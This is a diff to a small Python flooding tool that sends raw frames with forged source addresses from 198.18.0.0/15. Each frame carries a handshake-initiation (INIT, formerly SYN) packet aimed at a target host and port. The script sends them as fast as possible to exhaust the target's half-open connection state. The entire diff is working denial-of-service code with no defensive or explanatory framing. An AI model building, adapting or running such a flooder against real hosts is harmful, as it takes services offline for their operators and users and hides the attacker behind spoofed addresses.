@@ -1,13 +1,13 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: MIT
-"""synflood.py IFACE DST_MAC DST_IP PORT: SYNs from addresses of nobody, as fast as they can be sent, until it is killed."""
+"""initflood.py IFACE DST_MAC DST_IP PORT: INITs from addresses that nobody has, as fast as possible, until it is killed."""
 import ipaddress
 import random
 import socket
 import struct
 import sys
 
-# Each is sent again and again: more than a host remembers of those that asked and did not answer.
+# Each is sent again and again: more than the half-open paths that a host remembers.
 FRAMES = 4096
 
 
@@ -18,10 +18,10 @@ def checksum(data):
     return ~total & 0xffff
 
 
-def syn(src, dst, sport, dport, rng):
-    """An IPv4 packet with a SYN, all its sums right."""
-    header = struct.pack("!BBBBIQQQIIII", 1, 1, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0)
-    payload = header + struct.pack("!QHHIQ", rng.randrange(1, 1 << 64), 1472, 0, 0, 0)
+def init(src, dst, sport, dport, rng):
+    """An IPv4 packet with an INIT, all its sums right."""
+    header = struct.pack("!BBBBIQQ16x", 2, 1, 0, 0, 0, 0, 0)
+    payload = header + struct.pack("!QQQIHHHHHB9x", rng.randrange(1, 1 << 64), 1, 0, 0, 1472, 16, 0, 61440, 64, 255)
     length = 8 + len(payload)
     pseudo = src + dst + struct.pack("!BBH", 0, 17, length)
     udp = struct.pack("!HHHH", sport, dport, length, 0)
@@ -37,9 +37,9 @@ def main():
     sock.bind((iface, 0))
     ether = bytes.fromhex(dst_mac.replace(":", "")) + sock.getsockname()[4] + b"\x08\0"
     dst = ipaddress.ip_address(dst_ip).packed
-    # 198.18.0.0/15: nobody has these (RFC 2544).
+    # 198.18.0.0/15: no host has these (RFC 2544).
     frames = [
-        ether + syn(bytes([198, 18 + rng.randrange(2), rng.randrange(256), rng.randrange(256)]), dst,
+        ether + init(bytes([198, 18 + rng.randrange(2), rng.randrange(256), rng.randrange(256)]), dst,
                     rng.randrange(1, 65536), int(port), rng)
         for _ in range(FRAMES)
     ]
